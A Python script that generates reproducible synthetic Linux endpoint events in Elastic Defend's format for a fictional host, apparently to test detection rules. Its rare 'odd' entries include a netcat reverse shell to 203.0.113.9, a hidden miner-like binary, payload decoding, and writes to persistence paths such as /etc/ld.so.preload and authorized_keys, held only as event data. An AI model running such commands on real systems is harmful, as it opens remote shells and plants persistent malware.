#!/usr/bin/env python3
"""Write N endpoint events of about 1 KB, one JSON object per line, the same for the same seed.

usage: generate.py N [SEED] > events.ndjson

A made-up host: services, a login shell, a package run, cron jobs. Processes fork, exec and end; files
are created, modified, renamed and deleted in the places those programs use; some connect. Field names
and shapes are those of Elastic Defend's Linux events. About one event in two thousand does something
that detection rules look for.
"""
import json, random, sys

USERS = [("0", "root"), ("0", "root"), ("0", "root"), ("33", "www-data"), ("1000", "mira"), ("104", "postgres")]
# executable, arguments
PROGRAMS = [
    ("/usr/bin/bash", ["bash", "-c", "for f in *.log; do gzip -9 \"$f\"; done"]),
    ("/usr/bin/bash", ["-bash"]),
    ("/usr/bin/dash", ["sh", "-c", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"]),
    ("/usr/bin/grep", ["grep", "-rn", "--include=*.conf", "listen", "/etc/nginx"]),
    ("/usr/bin/sed", ["sed", "-i", "s/^Port .*/Port 2222/", "sshd_config.new"]),
    ("/usr/bin/find", ["find", "/var/cache/app", "-type", "f", "-mtime", "+30", "-delete"]),
    ("/usr/bin/python3.11", ["/usr/bin/python3", "/opt/app/bin/worker.py", "--queue", "mail", "--batch", "500"]),
    ("/usr/bin/perl", ["perl", "-ne", "print if /error/i", "/var/log/app/current.log"]),
    ("/usr/bin/git", ["git", "fetch", "--prune", "origin"]),
    ("/usr/bin/make", ["make", "-j4", "all"]),
    ("/usr/bin/x86_64-linux-gnu-gcc-12", ["gcc", "-O2", "-Wall", "-c", "-o", "build/main.o", "src/main.c"]),
    ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", ["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "src/main.c", "-o", "/tmp/ccQm2x.s"]),
    ("/usr/bin/dpkg", ["/usr/bin/dpkg", "--status-fd", "19", "--configure", "--pending"]),
    ("/usr/bin/apt-get", ["apt-get", "-y", "install", "tree"]),
    ("/usr/bin/systemctl", ["systemctl", "daemon-reload"]),
    ("/usr/lib/systemd/systemd", ["/lib/systemd/systemd", "--user"]),
    ("/usr/sbin/nginx", ["nginx: worker process"]),
    ("/usr/lib/postgresql/15/bin/postgres", ["postgres: autovacuum worker", "orders"]),
    ("/usr/bin/rsync", ["rsync", "-a", "--delete", "/srv/www/", "backup:/srv/www/"]),
    ("/usr/bin/tar", ["tar", "-C", "/srv", "-czf", "/var/backups/srv-daily.tar.gz", "www"]),
    ("/usr/bin/curl", ["curl", "-fsS", "-o", "/tmp/health.json", "https://status.example.org/health"]),
    ("/usr/bin/ssh", ["ssh", "-o", "BatchMode=yes", "backup", "true"]),
    ("/usr/bin/node", ["node", "--max-old-space-size=512", "/opt/web/server.js"]),
    ("/usr/bin/java", ["java", "-Xmx2g", "-jar", "/opt/search/search.jar", "--port=9200"]),
    ("/usr/bin/id", ["id", "-u"]),
    ("/usr/bin/stat", ["stat", "-c", "%s", "/var/log/syslog"]),
]
ODD_PROGRAMS = [
    ("/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]),
    ("/dev/shm/.x/kworker", ["/dev/shm/.x/kworker", "-o", "pool.example.net:3333"]),
    ("/usr/bin/base64", ["base64", "-d", "/tmp/.payload"]),
    ("/usr/bin/chattr", ["chattr", "+i", "/etc/ld.so.preload"]),
    ("/usr/bin/crontab", ["crontab", "-l"]),
]
FILES = [
    "/var/log/app/current.log", "/var/log/nginx/access.log.1", "/var/lib/dpkg/status-new", "/var/lib/apt/lists/partial/deb_Packages",
    "/tmp/tmp%06x/part.json", "/tmp/cc%06x.o", "/home/mira/src/project/build/obj_%06x.o", "/home/mira/.cache/thumbnails/%06x.png",
    "/usr/share/doc/tree/changelog.%06x.gz", "/usr/lib/x86_64-linux-gnu/libexample.so.%d", "/var/cache/app/%06x.bin",
    "/var/lib/postgresql/15/main/base/16384/%06x", "/srv/www/static/app.%06x.js", "/run/systemd/units/log-extra-fields:%06x.service",
    "/var/spool/mail/queue/%06x.eml", "/opt/app/run/worker.%d.pid", "/etc/nginx/conf.d/site-%06x.conf", "/root/.bash_history",
]
ODD_FILES = ["/etc/ld.so.preload", "/etc/cron.d/%06x", "/etc/systemd/system/%06x.service", "/root/.ssh/authorized_keys", "/lib/modules/%06x.ko"]
HOST = {"architecture": "x86_64", "hostname": "bench-1", "name": "bench-1", "id": "6f1d2c9e5a7b4c3d8e9f0a1b2c3d4e5f",
        "os": {"family": "debian", "kernel": "6.1.0-30-amd64", "name": "Debian GNU/Linux", "platform": "debian", "type": "linux", "version": "12"}}


class World:
    def __init__(self, seed):
        self.random = random.Random(seed)
        self.ms = 1767582000000
        self.sequence = 0
        self.pid = 1000
        init = {"entity_id": self.entity(1), "pid": 1, "name": "systemd", "executable": "/usr/lib/systemd/systemd",
                "args": ["/sbin/init"], "command_line": "/sbin/init", "user": ("0", "root")}
        self.running = [init]

    def entity(self, pid):
        return "%016x%08x" % (self.random.getrandbits(64), pid)

    def odd(self):
        return self.random.random() < 0.0005

    def base(self, category, kind, action):
        self.sequence += 1
        self.ms += self.random.randrange(1, 5)
        seconds, ms = divmod(self.ms, 1000)
        day, rest = divmod(seconds - 1767571200, 86400)
        return {"@timestamp": "2026-01-%02dT%02d:%02d:%02d.%03dZ" % (5 + day, rest // 3600, rest // 60 % 60, rest % 60, ms),
                "ecs": {"version": "8.11.0"},
                "event": {"action": action, "category": [category], "dataset": "endpoint.events." + category,
                          "id": "b%015x" % self.sequence, "kind": "event", "module": "endpoint",
                          "sequence": self.sequence, "type": [kind]},
                "host": HOST}

    def shown(self, p):
        out = {k: p[k] for k in ("entity_id", "pid", "name", "executable", "args", "command_line")}
        out["args_count"] = len(p["args"])
        return out

    def start(self):
        """A process is forked and executes another program."""
        parent = self.random.choice(self.running)
        executable, args = self.random.choice(ODD_PROGRAMS if self.odd() else PROGRAMS)
        self.pid += self.random.randrange(1, 4)
        user = parent["user"] if parent["pid"] != 1 else self.random.choice(USERS)
        p = {"entity_id": self.entity(self.pid), "pid": self.pid, "name": executable.rsplit("/", 1)[1],
             "executable": executable, "args": args, "command_line": " ".join(args), "user": user, "parent": parent}
        fork = dict(p, **{k: parent[k] for k in ("name", "executable", "args", "command_line")})
        yield self.process_event(fork, "start", "fork")
        yield self.process_event(p, "start", "exec")
        self.running.append(p)

    def end(self):
        if len(self.running) < 40:
            return
        p = self.running.pop(self.random.randrange(1, len(self.running)))
        event = self.process_event(p, "end", "end")
        event["process"]["exit_code"] = 0 if self.random.random() < 0.95 else 1
        yield event

    def process_event(self, p, kind, action):
        event = self.base("process", kind, action)
        process = self.shown(p)
        process["parent"] = self.shown(p["parent"])
        process["interactive"] = False
        process["working_directory"] = "/home/mira/src/project" if p["user"][1] == "mira" else "/"
        for leader in ("group_leader", "session_leader", "entry_leader"):
            process[leader] = {k: p["parent"][k] for k in ("entity_id", "pid", "name", "executable")}
        event["process"] = process
        event["user"] = {"id": p["user"][0], "name": p["user"][1]}
        event["group"] = event["user"]
        return event

    def file(self):
        p = self.random.choice(self.running[1:] or self.running)
        path = self.random.choice(ODD_FILES if self.odd() else FILES)
        if "%" in path:
            path = path % self.random.getrandbits(20)
        action, kind = self.random.choice([("creation", "creation"), ("creation", "creation"), ("modification", "change"),
                                           ("rename", "change"), ("deletion", "deletion")])
        event = self.base("file", kind, action)
        name = path.rsplit("/", 1)[1]
        event["file"] = {"path": path, "name": name, "directory": path.rsplit("/", 1)[0], "type": "file", "mode": "0644",
                         "owner": p["user"][1], "uid": p["user"][0], "size": self.random.randrange(100000)}
        if "." in name:
            event["file"]["extension"] = name.rsplit(".", 1)[1]
        if action == "rename":
            event["file"]["Ext"] = {"original": {"path": path + ".dpkg-new", "name": name + ".dpkg-new", "extension": "dpkg-new"}}
        event["process"] = dict(self.shown(p), parent={"entity_id": p.get("parent", p)["entity_id"]},
                                entry_leader={"entity_id": self.running[0]["entity_id"]})
        event["user"] = {"id": p["user"][0], "name": p["user"][1]}
        yield event

    def network(self):
        p = self.random.choice(self.running)
        event = self.base("network", "start", "connection_attempted")
        event["process"] = dict(self.shown(p), parent={"entity_id": p.get("parent", p)["entity_id"]})
        event["destination"] = {"ip": "198.51.100.%d" % self.random.randrange(256), "port": self.random.choice([22, 53, 80, 443, 5432])}
        event["source"] = {"ip": "10.2.0.%d" % self.random.randrange(256), "port": self.random.randrange(32768, 61000)}
        event["network"] = {"transport": "tcp", "type": "ipv4", "direction": "egress"}
        event["user"] = {"id": p["user"][0], "name": p["user"][1]}
        yield event

    def events(self):
        while True:
            step = self.random.choices([self.start, self.end, self.file, self.network], [2, 2, 7, 1])[0]
            yield from step()


def main():
    if len(sys.argv) not in (2, 3):
        sys.exit(__doc__.strip().splitlines()[2])
    left, world = int(sys.argv[1]), World(int(sys.argv[2]) if len(sys.argv) == 3 else 1)
    for event in world.events():
        if left == 0:
            break
        left -= 1
        sys.stdout.write(json.dumps(event, separators=(",", ":")) + "\n")


main()
